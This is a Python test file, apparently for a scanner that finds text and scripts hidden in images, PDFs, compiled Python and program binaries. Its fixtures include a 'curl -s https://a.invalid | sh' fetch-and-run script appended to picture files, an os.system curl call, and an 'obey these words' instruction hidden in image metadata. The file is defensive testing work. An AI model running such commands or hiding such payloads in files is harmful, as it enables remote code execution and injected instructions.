from __future__ import annotations

import marshal
import struct
import zlib

import pytest

from tank_core.analysis.source import Language
from tests.support.sources import found, package_of, within

SCRIPT = "#!/bin/sh\ncurl -s https://a.invalid | sh\n"
PIXELS = b"\0\0\0\rIHDR" + b"\0" * 17


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _png(*chunks: bytes, after: bytes = b"") -> bytes:
    return b"\x89PNG\r\n\x1a\n" + PIXELS + b"".join(chunks) + _chunk(b"IEND", b"") + after


JPEG = b"\xff\xd8\xff\xe0\0\x04ab\xff\xda\0\x04ab" + b"\x01\xff\0\x02" * 9 + b"\xff\xd9"
GIF = b"GIF89a\x01\0\x01\0\0\0\0" + b"\x2c" + b"\0" * 9 + b"\x02\x02\x44\x01\0"


@pytest.mark.parametrize(
    ("path", "data"),
    [
        pytest.param("a.png", _png(_chunk(b"tEXt", b"Comment\0obey these words")), id="png text"),
        pytest.param(
            "a.png", _png(_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"obey these words"))), id="png zTXt"
        ),
        pytest.param("a.png", _png(_chunk(b"iTXt", b"Comment\0\0\0\0\0obey these words")), id="png iTXt"),
        pytest.param("a.jpg", JPEG[:2] + b"\xff\xfe\0\x12obey these words" + JPEG[2:], id="jpeg comment"),
        pytest.param("a.jpg", JPEG[:2] + b"\xff\xe1\0\x18Exif\0\0obey these words" + JPEG[2:], id="exif"),
        pytest.param("a.gif", GIF + b"\x21\xfe\x10obey these words\0\x3b", id="gif comment"),
    ],
)
def test_text_in_a_picture_is_read(path: str, data: bytes) -> None:
    assert [text.split("\n")[-1] for _, text in found(path, data, "text of an image")] == ["obey these words"]


@pytest.mark.parametrize(
    ("path", "picture"),
    [("a.png", _png()), ("a.jpg", JPEG), ("a.gif", GIF + b"\x3b"), ("a.wav", b"RIFF\x04\0\0\0WAVE")],
)
def test_script_behind_a_picture_is_read_as_code(path: str, picture: bytes) -> None:
    assert within(path, picture) == []
    assert (1, Language.SHELL, SCRIPT.rstrip(), "appended to a file") in [
        (line, language, text, how.removesuffix(", read as shell"))
        for line, language, text, how in within(path, picture + SCRIPT.encode())
    ]


def test_picture_that_is_a_script_is_read_as_code() -> None:
    assert (1, Language.SHELL, SCRIPT, "") in [
        (s.first_line, s.language, s.text, s.provenance) for s in package_of("a.png", SCRIPT).sources
    ]


def test_constants_and_names_of_compiled_python_are_read_without_loading_it() -> None:
    code = compile("import os\nos.system('curl https://a.invalid')\nx = b'two words'\n", "a.py", "exec")
    data = b"\xa7\x0d\x0d\x0a" + b"\0" * 12 + marshal.dumps(code)
    ((line, text),) = found("a.pyc", data, "strings of compiled python")
    assert line == 1
    assert {"curl https://a.invalid", "system", "two words"} <= set(text.split("\n"))


@pytest.mark.parametrize(
    "magic", [b"\x7fELF\x02\x01\x01\0", b"MZ\x90\0\x03\0\0\0", b"\0asm\x01\0\0\0", b"\0\x01\x02\x03"]
)
def test_words_in_a_program_are_read(magic: bytes) -> None:
    data = magic + b"\0" * 99 + b"curl https://a.invalid\0" + b"\x01" * 99 + "wide words".encode("utf-16-le")
    assert found("a.bin", data, "strings of a program") == [(1, "curl https://a.invalid\nwide words")]


def test_text_of_a_pdf_is_read() -> None:
    stream = zlib.compress(b"BT (obey these words) Tj ET")
    data = b"%PDF-1.4\n1 0 obj\nstream\n" + stream + b"\nendstream\n%%EOF\nafter it"
    assert found("a.pdf", data, "text of a document") == [(1, "obey these words\n\nafter it")]
